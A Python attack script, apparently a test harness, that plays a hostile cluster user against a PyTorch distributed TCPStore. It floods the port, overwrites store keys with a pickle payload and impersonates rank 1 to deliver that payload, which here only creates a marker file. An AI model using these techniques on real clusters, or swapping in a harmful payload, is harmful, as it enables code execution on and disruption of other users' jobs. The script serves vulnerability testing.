"""Another user of the cluster who knows where a run's ranks meet: floods the port, takes every key, and joins in a rank's place.

    python stranger.py ADDRESS PORT MARKER SECONDS

What it plants makes the file MARKER where somebody unpickles it. It prints a line of JSON: what it has managed to do.
"""

from __future__ import annotations

import json
import os
import pickle
import socket
import sys
import threading
import time
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

SHARED_PATIENCE = timedelta(seconds=5)
NUM_OPEN = 100


class Trap:
    """Makes a file when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[object, tuple[Path]]:
        return Path.touch, (self._marker,)


class Stranger:
    """What the stranger does, each in a thread of its own, until the time is over."""

    def __init__(self, address: str, port: int, marker: Path, seconds: float) -> None:
        self._place = (address, port)
        self._trap = pickle.dumps(Trap(marker), protocol=0).decode("ascii")
        self._marker = marker
        self._end = time.monotonic() + seconds
        self.done = {"connected": 0, "overwritten": 0, "joined": 0}

    def flood(self) -> None:
        """Connect again and again, say what no protocol of PyTorch's has, and keep the last connections open."""
        kept: list[socket.socket] = []
        while time.monotonic() < self._end:
            with suppress(OSError):
                kept.append(socket.create_connection(self._place, timeout=1))
                kept[-1].sendall(self._trap.encode())
                self.done["connected"] += 1
            for old in kept[:-NUM_OPEN]:
                old.close()
            del kept[:-NUM_OPEN]
            time.sleep(0.002)

    def overwrite(self) -> None:
        """Replace the value of each key that the store shows."""
        store = self._store()
        while time.monotonic() < self._end:
            with suppress(dist.DistError):
                for key in store.list_keys():
                    store.set(key, self._trap)
                    self.done["overwritten"] += 1
            time.sleep(0.05)

    def join(self) -> None:
        """Be rank 1 of the group that rank zero begins, and send it the trap."""
        store = self._store()
        suffix = "/0//cpu//0/0"
        with suppress(dist.DistError, RuntimeError):
            while not (found := [key for key in store.list_keys() if key.endswith(suffix)]):
                if time.monotonic() > self._end:
                    return
                time.sleep(0.01)
            mine = dist.PrefixStore(found[0].removesuffix(suffix), store)
            dist.init_process_group("gloo", store=mine, rank=1, world_size=2, timeout=SHARED_PATIENCE)
            self.done["joined"] += 1
            objects: list[object] = [None, None]
            dist.all_gather_object(objects, Trap(self._marker))

    def _store(self) -> dist.TCPStore:
        while True:
            with suppress(dist.DistError, RuntimeError):
                host, port = self._place
                return dist.TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=SHARED_PATIENCE)
            if time.monotonic() > self._end:
                sys.exit("nobody listens there")
            time.sleep(0.02)


def main() -> None:
    address, port, marker, seconds, *attacks = sys.argv[1:]
    stranger = Stranger(address, int(port), Path(marker), float(seconds))
    threads = [threading.Thread(target=getattr(stranger, attack), daemon=True) for attack in attacks]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(float(seconds) + 10)
    sys.stdout.write(json.dumps(stranger.done) + "\n")
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
